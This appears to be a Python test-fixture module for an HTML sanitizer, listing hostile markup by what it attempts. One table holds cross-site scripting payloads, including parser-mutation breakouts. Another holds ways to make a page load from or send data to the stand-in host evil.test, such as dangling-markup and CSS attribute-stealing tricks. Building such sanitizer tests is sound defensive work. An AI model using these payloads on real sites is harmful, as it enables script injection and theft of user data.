"""Pages that want to run, load, tell or break out; each by what it tries. `evil.test` is theirs."""

from __future__ import annotations

PIXEL = "data:image/gif;base64,R0lGODlhAQABAAAAACwAAAAAAQABAAACADs="

RUNS = {
    "script": "<script>alert(1)</script><SCRIPT SRC=https://evil.test/x.js></SCRIPT>",
    "script in pieces": "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "event": "<b onclick=alert(1) onmouseover='alert(1)'>x</b><img src=x onerror=alert(1)>",
    "event behind a slash": "<img/src=x/onerror=alert(1)><body/onload=alert(1)>",
    "event after a quote": "<img alt='`' title='\" onerror=alert(1) x=\"' src=x>",
    "javascript link": "<a href=javascript:alert(1)>x</a><a href='java\nscript:alert(1)'>x</a>",
    "encoded scheme": "<a href='&#106;avascript&colon;alert(1)'>x</a>"
    "<a href='\x01javascript:x'>x</a>",
    "data link": "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "svg": "<svg onload=alert(1)><animate onbegin=alert(1) attributeName=x></svg>",
    "svg script": "<svg><script href='https://evil.test/x.js'/></svg><svg><use href='#x'/></svg>",
    "svg image": "<img src='data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImFsZXJ0KDEpIi8+'>",
    "math": "<math><maction actiontype=statusline xlink:href=javascript:alert(1)>x</maction></math"
    ">",
    "frames": "<iframe srcdoc='<script>alert(1)</script>'></iframe>"
    "<frameset><frame src=x></frameset>",
    "objects": "<object data=https://evil.test/x><embed src=https://evil.test/x><applet code=x>",
    "template": "<template><script>alert(1)</script></template><slot onfocus=alert(1)></slot>",
    "mutation by style": "<svg></p><style><a title='</style><img src=x onerror=alert(1)>'>",
    "mutation by math": "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;"
    "&lt;img src=1 onerror=alert(1)&gt;'>",
    "mutation by form": "<form><math><mtext></form><form><mglyph><style></math>"
    "<img src onerror=alert(1)>",
    "mutation by noscript": "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "mutation by textarea": "<textarea><img title='</textarea><img src=x onerror=alert(1)>'>",
    "mutation by select": "<select><xmp><script>alert(1)</script></xmp></select>",
    "mutation by plaintext": "<plaintext><img src=x onerror=alert(1)>",
    "mutation by annotation": "<math><annotation-xml encoding='text/html'><script>alert(1)"
    "</script>",
    "mutation by desc": "<svg><desc><style><img title='</style><script>alert(1)</script>'>",
    "mutation by nesting": "<table><td><svg><foreignObject><form><p><script>alert(1)</script>",
    "comments": "<!--><script>alert(1)</script>--><!--!><img src=x onerror=alert(1)>-->",
    "comment that ends early": "<!-- --!><script>alert(1)</script> -->",
    "cdata": "<![CDATA[<script>alert(1)</script>]]><svg><![CDATA[><img src=x onerror=alert(1)>]]>",
    "conditional": "<!--[if gte mso 9]><script>alert(1)</script><![endif]-->",
    "processing": "<?xml version='1.0'?><?php <script>alert(1)</script> ?>",
    "no end": "<img src=x onerror=alert(1)",
    "nul": "<scr\x00ipt>alert(1)</scr\x00ipt><img src=x on\x00error=alert(1)>",
    "charset": "+ADw-script+AD4-alert(1)+ADw-/script+AD4-<meta charset=utf-7>",
    "out of the frame": "</body></html><script>alert(1)</script>",
    "out of the title": "</title></style></iframe><script>alert(1)</script>",
}

LOADS = {
    "image": "<img src=http://evil.test/1.gif><img src=//evil.test/2.gif><img src=/3.gif>",
    "image, odd": "<img src=' HTTP://evil.test/x'>"
    "<img src='ht&#10;tp://evil.test/x'><img src=\\\\evil.test\\x>",
    "srcset": "<img srcset='https://evil.test/1 1x'><picture>"
    "<source srcset=https://evil.test/2></picture>",
    "lowsrc": "<img lowsrc=https://evil.test/1 dynsrc=https://evil.test/2 longdesc=https://evil.test/3"
    ">",
    "background": "<table background=https://evil.test/1><td background=https://evil.test/2>x",
    "body background": "<body background=https://evil.test/1>x",
    "media": "<video src=https://evil.test/1 poster=https://evil.test/2></video>"
    "<audio src=https://evil.test/3></audio><track src=https://evil.test/4>",
    "input": "<input type=image src=https://evil.test/1>",
    "style url": "<p style='background:url(https://evil.test/1)'>x</p>",
    "style url, quoted": "<p style='background-image: URL( \"//evil.test/1\" )'>x</p>",
    "style url, escaped": "<p style='background:\\75 rl(https://evil.test/1)'>x</p>",
    "style url, comment": "<p style='background:u/**/rl(https://evil.test/1)'>x</p>",
    "style list": "<ul style='list-style-image:url(https://evil.test/1)'><li>x</ul>",
    "style image-set": "<p style='background:image-set(\"https://evil.test/1\" 1x)'>x</p>",
    "style cursor": "<p style='cursor:url(https://evil.test/1),auto'>x</p>",
    "style content": "<p style='content:url(https://evil.test/1)'>x</p>",
    "style src": "<p style='background:src(\"https://evil.test/1\")'>x</p>",
    "style variable": "<p style='--a:url(https://evil.test/1);background:var(--a)'>x</p>",
    "style binding": "<p style='-moz-binding:url(https://evil.test/1);behavior:url(x.htc)'>x</p>",
    "style expression": "<p style='width:expression(alert(1))'>x</p>",
    "style in a string": "<p style='font-family:\"a;background:url(https://evil.test/1)'>x</p>",
    "import": "<style>@import 'https://evil.test/1';</style>"
    "<style>@import url(//evil.test/2)</style>",
    "font face": "<style>@font-face{font-family:x;src:url(https://evil.test/1)}</style>",
    "attribute thief": "<style>[value^=a]{background:url(https://evil.test/a)}</style>",
    "links": "<link rel=stylesheet href=https://evil.test/1><link rel=prefetch href=https://evil.test/2>"
    "<link rel=dns-prefetch href=//evil.test><link rel=preconnect href=//evil.test>",
    "manifest": "<html manifest=https://evil.test/1><link rel=manifest href=https://evil.test/2>",
    "refresh": "<meta http-equiv=refresh content='0;url=https://evil.test/'>",
    "base": "<base href=https://evil.test/><img src=1.gif><a href=x>x</a><base target=_top>",
    "form": "<form action=https://evil.test/><input name=a autofocus>"
    "<button formaction=//evil.test>x</button>",
    "ping": "<a href=https://good.test ping=https://evil.test/1>x</a>",
    "link": "<a href=https://evil.test/ target=_blank>x</a>"
    "<area href=https://evil.test/ shape=default>",
    "dangling": "<img src='https://evil.test/?x=",
    "dangling in an attribute": '<a href="https://evil.test/?x=<p>secret</p>',
    "dangling form": "<form action=https://evil.test/><textarea name=x>",
    "import by svg": "<svg><image href=https://evil.test/1 />"
    "<feImage href=https://evil.test/2 /></svg>",
    "xml": "<?xml-stylesheet href='https://evil.test/1'?><xml src=https://evil.test/2></xml>",
    "cid of nobody": "<img src=cid:nobody><img src='cid:../../x'>",
    "cid that is a page": "<img src=cid:page>",
    "data page": "<img src='data:text/html;base64,PHNjcmlwdD4='><img src='data:image/png,<svg>'>",
    "portal": "<portal src=https://evil.test/1></portal><fencedframe src=https://evil.test/2>",
    "bgsound": "<bgsound src=https://evil.test/1><layer src=https://evil.test/2></layer>",
}
